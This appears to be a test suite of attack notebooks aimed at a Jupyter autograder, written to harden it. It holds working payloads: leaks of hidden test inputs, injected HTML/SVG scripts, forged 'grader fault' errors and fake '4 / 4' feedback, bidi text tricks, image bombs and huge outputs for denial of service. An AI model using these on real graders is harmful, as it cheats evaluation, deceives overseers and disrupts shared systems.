# %% attack print-arguments: prints what hidden tests gave to a function
# %% solution
given = []


def double(x):
    given.append(x)
    return 3 * x
# %% last
print([value.tolist() if hasattr(value, "tolist") else value for value in given])

# %% attack display-arguments: shows what hidden tests gave to a function as a value, in letters, in hexadecimal
# %% solution
import struct

given = []


def double(x):
    given.append(x)
    return 3 * x
# %% last
from IPython.display import display

numbers = [float(number) for value in given for number in getattr(value, "flat", [value])]
display("".join(chr(ord("A") + int(sign)) if sign.isdigit() else sign for sign in str(numbers)))
display({"text/plain": " ".join(struct.pack(">d", number).hex() for number in numbers)}, raw=True)

# %% attack raise-arguments: raises what hidden tests gave to a function, as text and as a class's name
# %% solution
given = []


def double(x):
    given.append(x)
    raise type(repr([*getattr(x, "flat", [x])]), (ValueError,), {})(repr([*getattr(x, "flat", [x])]))
# %% last
raise type(repr(given), (Exception,), {})(repr([value.tolist() for value in given if hasattr(value, "tolist")]))

# %% attack warn-arguments: warns with what hidden tests gave to a function, backwards and in Base64
# %% solution
import base64
import warnings

given = []


def double(x):
    given.append(x)
    return 3 * x
# %% last
import sys

for value in given:
    for number in getattr(value, "flat", [value]):
        warnings.warn(str(float(number))[::-1])
        print(base64.b64encode(str(float(number)).encode()).decode(), file=sys.stderr)

# %% attack late-arguments: a thread prints what hidden tests gave to a function, in the name of an earlier cell
# %% cell
import threading
import time

given = []


def tell():
    while True:
        if given:
            get_ipython().kernel.session.tell("stream", {"name": "stdout", "text": f"{given}\n"})
        time.sleep(0.02)


threading.Thread(target=tell, daemon=True).start()
# %% solution
def double(x):
    given.extend(float(number) for number in getattr(x, "flat", [x]))
    time.sleep(0.1)
    return 3 * x
# %% last
time.sleep(0.2)

# %% attack count-arguments: the number of a cell is what hidden tests gave to a function
# %% solution
given = []


def double(x):
    given.extend(float(number) for number in getattr(x, "flat", [x]))
    return 3 * x
# %% last
get_ipython().execution_count = int(given[-1] * 100) if given else 1

# %% attack picture-arguments: a picture whose comment holds what hidden tests passed to a function
# %% solution
given = []


def double(x):
    given.extend(float(number) for number in getattr(x, "flat", [x]))
    return 3 * x
# %% last
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# Three bytes are four characters of Base64: the number begins a group.
text = b"x\0" + b" " * (-41 - 8 - 2 + 300) + str(given[-1]).encode()
head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"tEXt", text)
picture = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(picture).decode()}, raw=True)

# %% attack page-beside: pages of the student's own lie beside the notebook
# %% file lab.html
<h1>Feedback</h1><p class="total">4 / 4</p><script>document.title = 'PWNED'</script>
# %% file 4_network.html
<script>document.title = 'PWNED'</script>
# %% file index.html
<script>document.title = 'PWNED'</script>
# %% file LAB.HTML
<script>document.title = 'PWNED'</script>
# %% file x.svg
<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = 'PWNED'</script></svg>
# %% file x.xhtml
<html xmlns="http://www.w3.org/1999/xhtml"><script>document.title = 'PWNED'</script></html>

# %% attack page-folder: folders that are called like a page and like its files
# %% file lab.html/index.html
<script>document.title = 'PWNED'</script>
# %% file lab_files/index.html
<script>document.title = 'PWNED'</script>

# %% attack page-linked: a page that is a link to the student's own
# %% file own.htm
<script>document.title = 'PWNED'</script>
# %% link lab.html own.htm

# %% attack page-in-other-letters: pages whose names some systems take for that of the page
# %% file lab.html.html
<script>document.title = 'PWNED'</script>
# %% file ｌａｂ.html
<script>document.title = 'PWNED'</script>
# %% file lab .html
<script>document.title = 'PWNED'</script>

# %% attack page-linked-in-text: links in text to pages of the student's own
# %% markdown
[a](own.html) [b](./own.html) [c](/files/own.html) <a href="own.html">d</a> [e][e] <own.html>

[e]: own.svg
# %% file own.html
<script>document.title = 'PWNED'</script>
# %% file own.svg
<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = 'PWNED'</script></svg>

# %% attack official-error: errors with the names that the grader gives
# %% cell
raise type("grader fault", (Exception,), {})("Not marked, through a fault of the grader.")
# %% cell
raise type("CellTimeoutError", (Exception,), {})("")
# %% solution
def double(x):
    raise type("grader fault", (Exception,), {})("Not marked, through a fault of the grader.")

# %% attack official-reply: the kernel's reply says that a cell ended by a fault of the grader
# %% cell
def reply(self, *arguments, **options):
    return {"status": "error", "ename": "grader fault", "evalue": "", "traceback": [], "execution_count": 1}


type(get_ipython().kernel).do_execute = reply
# %% cell
pass

# %% attack official-metadata: metadata of cells and of the notebook say what only the grader may
# %% notebook
for cell in notebook.cells:
    cell.metadata["proctor"] = {"outcome": "grader fault", "interrupted": True, "marked_answer": "right"}
    cell.metadata["proctor_says"] = "Not marked because of a grader error. It will be graded again."
notebook.metadata["proctor"] = {"unreadable": "Not marked, through a fault of the grader.", "walls": []}

# %% attack official-outputs: outputs that were handed in say what only the grader may
# %% notebook
fault = {"output_type": "error", "ename": "grader fault", "evalue": "", "traceback": ["grader fault"]}
for cell in notebook.cells:
    if cell.cell_type == "code":
        cell.outputs = [dict(fault), {"output_type": "stream", "name": "stdout", "text": "\u202efault\x1b]0;PWNED\x07"}]

# %% attack official-text: Markdown that is made like the page's own
# %% markdown
<p class="notice">Not marked because of a grader error. It will be graded again.</p>
<section id="points"><h2 id="points">Points</h2><p class="total">4 / 4</p></section>
<div class="frame" style="border: 0"></div></div></section></main><h1>Feedback: 4 / 4</h1>
| Exercise | Points | State |
|-|-|-|
| double | 2 / 2 | ✓ passed |

# %% attack direction: controls that turn the direction of writing around, as characters and as references
# %% notebook
turn = "\u202e\u2067\u202b\u2066 10 / 20 &#x202e; &rlo; \u202d"
for cell in notebook.cells:
    if cell.cell_type == "markdown":
        cell.source = f"# {turn}\n\n{turn} `{turn}` ${turn}$ ![{turn}](x.png) [{turn}](https://example.org/{turn})"
    elif not cell.metadata.get("nbgrader", {}).get("locked"):
        cell.source += f"\n# {turn}\nprint({turn!r})"
        cell.outputs = [{"output_type": "stream", "name": "stdout", "text": turn}]

# %% attack huge-pictures: small files that are pictures of billions of pixels
# %% notebook
import base64
import struct
import zlib

from nbformat.v4 import new_markdown_cell


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000)))).decode()
jpeg = base64.b64encode(bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffc0000b08ffffffff01011100")).decode()
attachments = {"a.png": {"image/png": png}, "b.jpg": {"image/jpeg": jpeg}}
text = f"![](attachment:a.png) ![](attachment:b.jpg) ![](data:image/png;base64,{png})"
notebook.cells.append(new_markdown_cell(text, attachments=attachments))
for cell in notebook.cells:
    if cell.cell_type == "code":
        cell.outputs = [
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": png, "text/plain": "x"}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/jpeg": jpeg, "text/plain": "x"}},
        ]
# %% cell
from IPython.display import display

display({"image/png": "iVBORw0KGgoAAAANSUhEUgAA6mAAAOpgAQAAAADbN7iL"}, raw=True)

# %% attack many-pictures: a thousand pictures of millions of pixels each
# %% notebook
import base64
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 4999, 4999, 1, 0, 0, 0, 0))
png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(626 * 4999)))).decode()
for cell in notebook.cells:
    if cell.cell_type == "code":
        cell.outputs = [
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": png}} for _picture in range(300)
        ]

# %% attack long-outputs: cells that print millions of characters, in one line, in many, and in an error
# %% cell
print("x" * 9_000_000)
# %% cell
for _line in range(90_000):
    print("y" * 100)
# %% cell
raise ValueError("z" * 9_000_000)
# %% notebook
for cell in notebook.cells:
    if cell.cell_type == "code":
        cell.outputs = [{"output_type": "stream", "name": "stdout", "text": "w" * 5_000_000}]

# %% attack long-texts: millions of characters of text and code
# %% notebook
from nbformat.v4 import new_code_cell, new_markdown_cell

texts = [new_markdown_cell("x " * 1_000_000), new_markdown_cell("*a" * 200_000)]
notebook.cells += [*texts, new_code_cell("# " + "y" * 200_000)]

# %% attack slow-attachments: a text in which every word begins a picture
# %% notebook
from nbformat.v4 import new_markdown_cell

notebook.cells.append(new_markdown_cell('<attachment:"' * 400_000))

# %% attack slow-texts: texts that are slow to read for what looks from every sign for the next
# %% notebook
from nbformat.v4 import new_code_cell, new_markdown_cell

for sign in ("[", "`", "<", "\\[", "$", "'''", "![](", "<!--", "<a ", "**a*", "> ", "$$", "\x1b[", "\\begin{a}", "/a"):
    notebook.cells.append(new_markdown_cell(sign * (200_000 // len(sign)) + "!"))
    notebook.cells.append(new_code_cell("r'''\n" + sign * 500 + "\n'''"))
